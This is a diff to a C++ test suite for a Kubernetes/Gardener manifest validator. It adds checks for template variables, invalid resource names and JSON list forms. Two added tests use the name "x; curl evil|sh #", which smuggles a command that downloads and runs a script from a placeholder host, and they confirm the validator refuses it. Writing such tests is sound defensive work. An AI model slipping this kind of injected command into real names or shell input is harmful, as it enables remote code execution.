@@ -82,6 +82,8 @@ const Refused kRefused[] = {
      "placeholder", Severity::Error, 7, 27},
     {"a shell variable", ShootText{.networking = "pods: ${PODS}"}.yaml(), "template",
      Severity::Error, 9, 11},
+    {"a shell variable without braces", ShootText{.networking = "pods: $POD_CIDR"}.yaml(),
+     "template", Severity::Error, 9, 11},
     {"a quoted template", ShootText{.networking = "pods: \"{{ .Values.pods }}\""}.yaml(),
      "template", Severity::Error, 9, 11},
     {"an ellipsis as value", ShootText{.networking = "pods: ..."}.yaml(), "elision",
@@ -110,7 +112,28 @@ const Refused kRefused[] = {
     {"a name on two lines",
      "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: \"a\\nb\"}\n"
      "spec: {networking: {type: calico}}\n",
-     "unsupported-fragment", Severity::Error, 3, 18},
+     "invalid-name", Severity::Error, 3, 18},
+    {"a name that a shell would run",
+     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\n"
+     "metadata: {name: \"x; curl evil|sh #\"}\nspec: {networking: {type: calico}}\n",
+     "invalid-name", Severity::Error, 3, 18},
+    {"a name in capitals",
+     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: Prod}\n"
+     "spec: {networking: {type: calico}}\n",
+     "invalid-name", Severity::Error, 3, 18},
+    {"a namespace with a dot",
+     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\n"
+     "metadata: {name: a, namespace: garden.dev}\nspec: {networking: {type: calico}}\n",
+     "invalid-name", Severity::Error, 3, 32},
+    {"a Seed whose name ends with a hyphen",
+     "apiVersion: core.gardener.cloud/v1beta1\nkind: Seed\nmetadata: {name: a-}\n", "invalid-name",
+     Severity::Error, 3, 18},
+    {"a variable for the name",
+     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: $NAME}\n"
+     "spec: {networking: {type: calico}}\n",
+     "template", Severity::Error, 3, 18},
+    {"a list of parts in JSON", "[{\"spec\": {}}, {\"spec\": {}}]", "unsupported-fragment",
+     Severity::Error, 1, 1},
     {"a List without items", "apiVersion: v1\nkind: List\nitems: []\n", "empty-list",
      Severity::Note, 3, 8},
     {"a ShootList without items",
@@ -270,6 +293,38 @@ TEST(ManifestSet, ItemsOfAListAreObjectsOfTheirOwn) {
   EXPECT_TRUE(set.clusters[0].live);
   ASSERT_EQ(set.findings.size(), 1u);
   EXPECT_EQ(set.findings[0].rule, "unsupported-kind");
+}
+
+TEST(ManifestSet, ArraysAndListsWithoutAKindAreRead) {
+  const std::string shoot =
+      "{\"apiVersion\": \"core.gardener.cloud/v1beta1\", \"kind\": \"Shoot\", \"metadata\": "
+      "{\"name\": \"a\"}, \"spec\": {\"provider\": {\"type\": \"aws\"}, \"networking\": {\"type\": "
+      "\"calico\"}}}";
+  std::string other = shoot;
+  other.replace(other.find("\"a\""), 3, "\"b\"");
+  for (const std::string& text :
+       {"[" + shoot + ", " + other + "]", "{\"items\": [" + shoot + ", " + other + "]}",
+        "items:\n- " + shoot + "\n- " + other + "\n", "- " + shoot + "\n- " + other + "\n"}) {
+    const ManifestSet set = decode_text(text);
+    EXPECT_EQ(set.clusters.size(), 2u) << text;
+    EXPECT_TRUE(set.findings.empty()) << text;
+  }
+}
+
+TEST(ManifestSet, NodesHintAtLive) {
+  const ManifestSet set = decode_text("apiVersion: v1\nkind: Node\nmetadata: {name: n}\n");
+  ASSERT_EQ(set.findings.size(), 1u);
+  EXPECT_EQ(set.findings[0].severity, Severity::Note);
+  EXPECT_THAT(set.findings[0].hint, HasSubstr("check --live"));
+}
+
+TEST(ManifestSet, AnInvalidNameIsShownOnOneLine) {
+  const ManifestSet set = decode_text(
+      "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\n"
+      "metadata: {name: \"x; curl evil|sh #\"}\nspec: {networking: {type: calico}}\n");
+  ASSERT_EQ(set.findings.size(), 1u);
+  EXPECT_THAT(set.findings[0].message,
+              HasSubstr("metadata.name \"x; curl evil|sh #\" is not admitted by Kubernetes"));
 }
 
 struct Warned {
